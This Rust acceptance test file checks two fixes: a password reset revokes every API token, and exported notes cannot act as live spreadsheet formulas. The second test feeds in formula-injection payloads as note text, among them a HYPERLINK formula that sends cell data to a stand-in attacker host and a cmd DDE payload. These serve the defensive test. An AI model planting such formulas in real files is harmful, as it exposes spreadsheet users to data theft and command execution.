//! Defects an attacker found, on both backends where storage is involved: API tokens that
//! outlived a password reset, and notes that came out of the CSV download as live
//! spreadsheet formulas.

use convene_acceptance::databases::TestDatabase;
use convene_acceptance::people::{
    create_person, link_from_outbox, new_api_token, serve_two_trusts, sign_in, PASSWORD,
};
use convene_acceptance::web_client::WebClient;

#[tokio::test]
async fn a_password_reset_revokes_every_api_token() {
    for db in TestDatabase::both().await {
        let (store, server) = serve_two_trusts(&db).await;
        let backend = format!("{:?}", db.backend);
        create_person(&store, "ada@example.org", "Ada", &[]).await;
        let ada = WebClient::new(&server);
        sign_in(&ada, "ada@example.org", PASSWORD).await;
        let tokens = [
            new_api_token(&ada, "board report").await,
            new_api_token(&ada, "dashboard").await,
        ];
        let api = WebClient::new(&server);
        for token in &tokens {
            assert_eq!(
                api.get_with_token("/api/v1/me", token).await.status,
                200,
                "{backend}"
            );
        }

        let stranger = WebClient::new(&server);
        let form = stranger.get("/forgot-password").await;
        assert_eq!(form.status, 200, "{backend}");
        stranger
            .post("/forgot-password", &[("email", "ada@example.org")])
            .await;
        let reset = link_from_outbox(&store, "ada@example.org", "/reset-password?token=").await;
        let page = stranger.get(&reset).await;
        assert!(
            page.body.contains("revokes all your API tokens"),
            "{backend}: the page says what a reset does"
        );
        let token = reset.split("token=").nth(1).unwrap().to_string();
        let done = stranger
            .post(
                "/reset-password",
                &[("token", &token), ("password", "a brand new passphrase")],
            )
            .await;
        assert!(
            done.body.contains("API tokens no longer work"),
            "{backend}: {}",
            done.body
        );

        for token in &tokens {
            let after = api.get_with_token("/api/v1/me", token).await;
            assert_eq!(after.status, 401, "{backend}: a token outlived the reset");
        }
        let person = store.people().await.unwrap()[0].id;
        assert!(
            store
                .api_tokens(person)
                .await
                .unwrap()
                .iter()
                .all(|t| t.revoked_at.is_some()),
            "{backend}: every token is recorded as revoked"
        );
    }
}

#[tokio::test]
async fn notes_never_leave_as_live_spreadsheet_formulas() {
    for db in TestDatabase::both().await {
        let (store, server) = serve_two_trusts(&db).await;
        let backend = format!("{:?}", db.backend);
        create_person(&store, "ada@example.org", "Ada", &[]).await;
        let ada = WebClient::new(&server);
        sign_in(&ada, "ada@example.org", PASSWORD).await;
        let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#;
        for (title, body) in [(formula, "@SUM(1+1)"), ("+cmd|' /C calc'!A0", "-2+3")] {
            ada.get("/notes/new").await;
            let made = ada
                .post(
                    "/notes",
                    &[("title", title), ("body", body), ("visibility", "public")],
                )
                .await;
            assert_eq!(made.status, 303, "{backend}: {}", made.body);
        }
        for client in [&ada, &WebClient::new(&server)] {
            let csv = client.get("/notes.csv").await;
            assert_eq!(csv.status, 200, "{backend}");
            let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
            let mut cells = 0;
            for record in reader.records() {
                for cell in record.expect("a CSV row").iter() {
                    cells += 1;
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{backend}: {cell:?} would run as a formula"
                    );
                }
            }
            assert!(cells > 0, "{backend}: the notes were exported");
            assert!(csv.body.contains("'=HYPERLINK"), "{backend}: {}", csv.body);
            assert!(csv.body.contains("'@SUM(1+1)"), "{backend}");
        }
    }
}
